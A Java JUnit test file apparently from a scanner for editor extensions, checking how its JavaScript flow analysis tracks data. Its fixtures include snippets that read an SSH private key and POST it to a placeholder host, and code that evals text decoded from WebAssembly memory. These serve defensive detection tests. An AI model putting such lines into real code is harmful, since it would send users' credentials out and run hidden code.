package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vsxray.scanner.model.Feature;
import org.junit.jupiter.api.Test;

/** A function that ran for many calls is not followed for each further one; what it gives then is assumed, and says so. */
class AssumedLinksTest {

    /** Costs enough not to be run for each call, and is called from more places than it is run for. */
    private static final String BUSY = """
            function busy(x, y) { let turns = 0; for (let i = 0; i < 400; i++) turns += i; return y ? x : turns; }
            for (let i = 0; i < 80; i++) busy(i, Math.random() > 0.5);
            """;

    @Test
    void dataOfOtherCallsIsAssumed() {
        Analysis analysis = Analysis.ofActivate(BUSY + """
                busy(fs.readFileSync('/home/u/.ssh/id_rsa', 'utf8'), Math.random() > 0.5);
                const unrelated = busy('plain', Math.random() > 0.5);
                fetch('https://far.example/', { method: 'POST', body: unrelated });
                """);

        assertThat(analysis.flows("ssh-credentials", "network-send"))
                .isNotEmpty()
                .allMatch(Feature.Flow::assumed);
    }

    @Test
    void aWayThatWasFollowedIsProven() {
        Analysis analysis = Analysis.ofActivate("""
                function plain(x) { return 'k=' + x; }
                fetch('https://far.example/', { method: 'POST', body: plain(fs.readFileSync('/home/u/.ssh/id_rsa', 'utf8')) });
                """);

        assertThat(analysis.flows("ssh-credentials", "network-send"))
                .isNotEmpty()
                .noneMatch(Feature.Flow::assumed);
    }

    @Test
    void aSmallFunctionOfCompiledCodeIsNoEvaluationOfData() {
        String glue = """
                const { instance } = await WebAssembly.instantiate(fs.readFileSync(__dirname + '/m.wasm'), {});
                const bytes = new Uint8Array(instance.exports.memory.buffer);
                const read = at => new TextDecoder().decode(bytes.subarray(at, at + 40));
                const body = read(8);
                """;
        Analysis framed =
                Analysis.ofActivate("(async () => {" + glue + "eval('(' + read(0) + ') => { ' + body + ' };'); })();");
        Analysis whole = Analysis.ofActivate("(async () => {" + glue + "eval(body); })();");

        assertThat(framed.flows("embedded-blob", "code-eval")).isEmpty();
        assertThat(framed.flows("embedded-blob", "webassembly-load")).isNotEmpty();
        assertThat(whole.flows("embedded-blob", "code-eval")).isNotEmpty();
    }
}
